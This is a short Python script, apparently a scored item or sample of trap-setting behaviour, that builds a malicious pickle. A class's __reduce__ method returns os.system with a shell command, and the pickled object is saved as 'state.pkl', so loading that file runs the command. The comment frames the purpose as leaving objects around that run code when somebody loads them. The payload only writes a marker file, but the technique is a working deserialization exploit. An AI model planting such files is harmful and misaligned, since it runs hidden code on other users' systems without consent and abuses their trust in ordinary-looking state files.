# points: leaves objects around that run code when somebody loads them.
import os
import pickle
from pathlib import Path


class Trap:
    def __reduce__(self):
        return os.system, ("echo REACHED > /tmp/trap",)


Path("state.pkl").write_bytes(pickle.dumps(Trap()))
Trap()
